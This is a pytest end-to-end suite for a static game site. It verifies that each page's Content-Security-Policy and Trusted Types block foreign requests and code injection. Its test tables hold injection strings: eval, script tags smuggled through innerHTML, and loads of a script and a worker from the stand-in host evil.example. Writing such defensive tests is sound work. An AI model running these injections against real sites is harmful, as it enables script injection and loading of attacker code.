"""site/sviluppo/security.md against the built site.

Here: the policy of the pages, with its table; nobody else is asked for anything; no foreign text becomes code; the
machines' worker; no servers, no databases. Its other sentences are held by:

- Sinks, pictures from storage, Python in the page: tests/test_sinks.py; test_links.py (a stored picture).
- Links, tails, files, kept values, JSON: tests/test_link.py, tests/test_untrusted.py, tests/app/table
  (test_changed_links, test_save_file, test_library_files, test_saves), test_deep_json.py; escaping:
  tests/app/drawing/test_markup.py, tests/app/table/test_table.py; the home page: test_panels.py.
- What is shared with the installed app, or opened with it: test_received.py.
- A link holds the whole game, and the page says so: test_secrets.py, tests/app/page/test_sharing.py.
- Withheld storages, foreign scripts and elements: test_storage.py, test_boot.py, test_foreign.py.
- Attacks of the night: tests/lab/test_attack.py, tests/games/million.py. Cached files: test_offline.py,
  test_compile_cache.py.
- Several devices: tests/app/table/live (secrets, turns, events, words, lines, signals), test_strangers.py (bounds, the
  press, the way, the proof, the end), test_live.py (the guest's list).
- Far tables: tests/app/table/live (far, servers, signals), test_far.py.
"""

import re
import select
import socket
from collections import defaultdict
from collections.abc import Iterator
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

from build_site.paths import SITE
from tests.e2e.conftest import OpenContext, Watch
from tests.e2e.robot import BOOT_MS, Robot
from tests.e2e.tables import PHONE, Table

POLICY: Final = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
ROW: Final = re.compile(r"^\| (?:`('[^`]*'|[^`]*)`|(digests)) in `([a-z-]+)` \| ([^|]+) \|", re.MULTILINE)
TABLE: Final = "gioca/index.html"
PLACES: Final = ("", "gioca/?gioco=toy")
"""A page of the theme, and the table."""


def policies(dist: Path) -> dict[str, dict[str, set[str]]]:
    """The policy of each page: directive -> sources. All digests are called "digests"."""
    found = {}
    for file in dist.rglob("*.html"):
        told = POLICY.findall(file.read_text(encoding="utf-8"))
        assert len(told) == 1, file
        rules: dict[str, set[str]] = {}
        for rule in unescape(told[0]).split("; "):
            name, *sources = rule.split()
            assert name not in rules, rule
            rules[name] = {"digests" if one.startswith("'sha256-") else one for one in sources}
        found[file.relative_to(dist).as_posix()] = rules
    return found


# The policy of the pages


def test_every_page_has_a_policy_before_it_loads_anything(dist: Path) -> None:
    pages = list(dist.rglob("*.html"))
    assert len(pages) > 20
    for page in pages:
        head = page.read_text(encoding="utf-8").partition("</head>")[0]
        before, found, _ = head.partition('http-equiv="Content-Security-Policy"')
        assert found and "<script" not in before and "<link" not in before and "<style" not in before, page


def test_the_exceptions_are_those_of_the_table_in_the_page_on_security(dist: Path) -> None:
    told = policies(dist)
    where: dict[tuple[str, str], set[str]] = defaultdict(set)
    for page, rules in told.items():
        assert rules["default-src"] == rules["base-uri"] == {"'none'"}, page
        for name in rules.keys() - {"require-trusted-types-for", "trusted-types"}:
            for source in rules[name] - {"'self'", "'none'"}:
                where[source, name].add(page)
    shown = {frozenset(told): "every page", frozenset({TABLE}): "the table only"}
    listed = {
        (quoted or digests, name): place.strip()
        for quoted, digests, name, place in ROW.findall((SITE / "sviluppo" / "security.md").read_text())
    }
    assert listed == {key: shown.get(frozenset(pages), str(pages)) for key, pages in where.items()}


def test_only_the_table_requires_trusted_types(dist: Path) -> None:
    for page, rules in policies(dist).items():
        required = rules.get("require-trusted-types-for"), rules.get("trusted-types")
        assert required == (({"'script'"}, {"default"}) if page == TABLE else (None, None)), page


def test_what_is_no_page_holds_no_script(dist: Path) -> None:
    """Drawings, fragments of rulebooks and the site map carry no policy."""
    files = [file for kind in ("svg", "xml", "txt") for file in dist.rglob(f"*.{kind}")]
    assert len(files) > 100
    for file in files:
        text = file.read_text(encoding="utf-8")
        found = re.search(
            r"<(script|iframe|object|embed|foreignObject|m?py-)|<[^>]*\s(on|m?py-)\w+=", text, re.I
        )
        assert found is None and "javascript:" not in text, file


@pytest.mark.parametrize("path", PLACES)
def test_a_script_that_the_build_did_not_see_does_not_run(
    page: Page, site: str, watch: Watch, path: str
) -> None:
    page.goto(site + path)
    page.evaluate(
        """() => {
          const script = document.createElement("script"), way = document.createElement("a");
          const button = document.createElement("button");
          script.append("window.ran = 1");
          button.setAttribute("onclick", "window.ran = 2");
          way.href = "javascript:void (window.ran = 3)";
          document.body.append(script, button, way);
          button.click();
          way.click();
        }"""
    )
    page.wait_for_timeout(500)  # for what must not come
    assert page.evaluate("window.ran ?? 0") == 0
    assert len(watch.complaints) >= 3
    watch.complaints.clear()


# Nobody else is asked


class Sources(HTMLParser):
    """The addresses from which a page loads something without any action of a visitor."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        told = dict(attrs)
        assert tag not in ("iframe", "frame", "object", "embed", "base"), tag
        loads = tag == "link" and told.get("rel") not in ("canonical", "prev", "next")
        names = ("src", "srcset", "poster", "data", *(["href"] if loads or tag in ("use", "image") else []))
        self.found += [value for name in names if (value := told.get(name))]


def test_no_page_and_no_style_sheet_names_a_foreign_source(dist: Path) -> None:
    found: list[str] = []
    for file in dist.rglob("*.html"):
        parser = Sources()
        parser.feed(file.read_text(encoding="utf-8"))
        found += parser.found
    for file in dist.rglob("*.css"):
        text = file.read_text(encoding="utf-8")
        found += [
            url.strip("\"'") for url in re.findall(r"url\(([^)]*)\)|@import\s+([^;]+)", text) for url in url
        ]
    assert len(found) > 100
    assert [url for url in found if urlsplit(url).netloc or urlsplit(url).scheme not in ("", "data")] == []


def test_every_page_opens_without_asking_anybody_else(page: Page, site: str, dist: Path) -> None:
    """`watch` would complain of a foreign request, and of anything that the policy has blocked."""
    pages = sorted(file.relative_to(dist).as_posix() for file in dist.rglob("*.html"))
    for path in pages:
        page.goto(site + path.removesuffix("index.html"), wait_until="load")
        assert page.context.cookies() == [], path


REACHING: Final = {
    "a picture": "new Image().src = '{0}/x.png'",
    "data": "fetch('{0}/x').catch(() => {})",
    "a beacon": "navigator.sendBeacon('{0}/x', 'x')",
    "a socket": "try { new WebSocket('{0}/x'.replace('http', 'ws')) } catch {}",
    "a frame": "add('iframe', { src: '{0}/' })",
    "a style sheet": "add('link', { rel: 'stylesheet', href: '{0}/x.css' })",
    "a font": "new FontFace('x', 'url({0}/x.woff2)').load().catch(() => {})",
    "a module": "import('{0}/x.js').catch(() => {})",
    "a form": "add('form', { action: '{0}/' }).submit()",
}
"""How a page may load something of another origin, or send something there."""
ADD: Final = """const add = (name, fields) => {
  const made = Object.assign(document.createElement(name), fields);
  document.body.append(made);
  return made;
};"""


@pytest.fixture
def stranger() -> Iterator[socket.socket]:
    """Another origin, which hears every connection."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening


def origin(listening: socket.socket) -> str:
    return f"http://127.0.0.1:{listening.getsockname()[1]}"


def connected(listening: socket.socket, seconds: float) -> bool:
    """Whether anybody connects within some seconds."""
    return bool(select.select([listening], [], [], seconds)[0])


@pytest.mark.parametrize("path", PLACES)
def test_a_page_cannot_reach_another_origin(
    page: Page, site: str, watch: Watch, stranger: socket.socket, path: str
) -> None:
    page.goto(site + path)
    page.wait_for_load_state("networkidle")
    for what, script in REACHING.items():
        page.evaluate(f"() => {{ {ADD} {script.replace('{0}', origin(stranger))} }}")
        port = origin(stranger).partition(":")[2]
        for _ in range(100):
            page.wait_for_timeout(100)
            if any(port in line for line in watch.complaints):
                break
        else:
            pytest.fail(f"nothing stops {what}")
        watch.complaints.clear()
    assert not connected(stranger, 1) and page.url == site + path


def test_a_foreign_request_fails_its_test(page: Page, watch: Watch, stranger: socket.socket) -> None:
    """On a page without a policy."""
    page.set_content(f'<img src="{origin(stranger)}/x.png">', wait_until="commit")
    assert connected(stranger, 10)
    page.wait_for_timeout(100)
    page.close()
    assert watch.complaints == [f"foreign request: {origin(stranger)}/x.png"]
    watch.complaints.clear()


def test_a_game_sends_nothing_and_needs_no_database(page: Page, site: str) -> None:
    """Everything that is kept stays in this browser, under names with our own prefix."""
    methods = set()
    page.on("request", lambda request: methods.add(request.method))
    robot = Robot(page, seed=3)
    robot.start(site, "toy", 2)
    robot.list_mode()
    robot.play_out(robot.step_by_list)
    assert methods == {"GET"}
    names = page.evaluate("Object.keys(localStorage)")
    assert names and all(name.startswith("faraone:") for name in names)
    fresh = page.context.new_page()  # the table itself sees a stand-in
    fresh.goto(site)
    assert fresh.evaluate("indexedDB.databases()") == []
    assert page.context.cookies() == []


# PyScript, and the machines' worker

REFUSED: Final = {
    "eval": "eval('window.ran = 1')",
    "Function": "new Function('window.ran = 1')()",
    "a timer": "setTimeout('window.ran = 1')",
    "a foreign script": "document.createElement('script').src = 'https://evil.example/x.js'",
    "text of a script": "document.createElement('script').text = 'window.ran = 1'",
    "a worker elsewhere": "new Worker('https://evil.example/x.js')",
    "a script in markup": "document.createElement('p').innerHTML = '<b></b><script>window.ran = 1</script>'",
    "Python in markup": "document.createElement('p').innerHTML = '<script type=\"py\">1</script>'",
    "PyScript's element": "document.createElement('p').insertAdjacentHTML('beforeend', '<py-script>1</py-script>')",
    "a document": "new DOMParser().parseFromString('<SCRIPT>1</SCRIPT>', 'text/html')",
    "a policy": "trustedTypes.createPolicy('other', {})",
}
"""What Trusted Types refuse on the table once Python has started."""


def test_no_text_becomes_code_once_python_has_started(page: Page, site: str, watch: Watch) -> None:
    robot = Robot(page)
    robot.start(site, "toy", 2)
    for what, code in REFUSED.items():
        # What `evaluate` runs may use eval, so this waits until it has returned.
        page.evaluate(f"""() => void setTimeout(() => {{
          try {{
            {code};
            window.met = "nothing";
          }} catch (error) {{
            window.met = error.name;
          }}
        }})""")
        page.wait_for_function("() => window.met")
        assert page.evaluate("met") in ("TypeError", "EvalError"), (what, page.evaluate("met"))
        page.evaluate("delete window.met")
    assert page.evaluate("window.ran ?? 0") == 0
    assert len(watch.complaints) >= len(REFUSED)
    watch.complaints.clear()
    robot.passed()
    robot.list_mode()
    robot.step_by_list()


def test_the_machines_worker_loads_the_runtime_and_wheels_only(page: Page, site: str) -> None:
    robot = Robot(page)
    robot.open(f"{site}gioca/?gioco=toy")
    with page.expect_worker(timeout=BOOT_MS) as made:
        robot.against("toy", site)
        robot.list_mode()
        robot.step_by_list()
    worker = made.value
    assert worker.url.startswith(f"{site}vendor/thinker.")
    expect(robot.table).not_to_have_attribute("data-busy", "1", timeout=BOOT_MS)
    loaded = worker.evaluate("performance.getEntriesByType('resource').map((entry) => entry.name)")
    wheels = {url.rpartition("/")[2].partition("-")[0] for url in loaded if url.endswith(".whl")}
    assert wheels == {"pycore", "players", "game_toy"}
    assert all(url.startswith(f"{site}vendor/") for url in loaded), loaded


# Several devices


def test_no_server_is_asked_for_the_way_to_a_device(open_context: OpenContext, site: str) -> None:
    context = open_context(**PHONE)
    context.add_init_script(
        """window.servers = [];
        window.RTCPeerConnection = class extends RTCPeerConnection {
          constructor(...given) {
            super(...given);
            servers.push(this.getConfiguration().iceServers.length);
          }
        };"""
    )
    host = Table(context.new_page(), site, "toy").host.page
    host.locator('[data-live="invite:1"]').click()
    offer = host.locator("#invitation").input_value(timeout=BOOT_MS)
    guest = context.new_page()
    guest.goto(offer)
    guest.locator('.knocking [data-live="join"]').click(timeout=BOOT_MS)
    expect(guest.locator(".knocking #link")).to_be_visible(timeout=BOOT_MS)
    assert host.evaluate("servers") == guest.evaluate("servers") == [0]
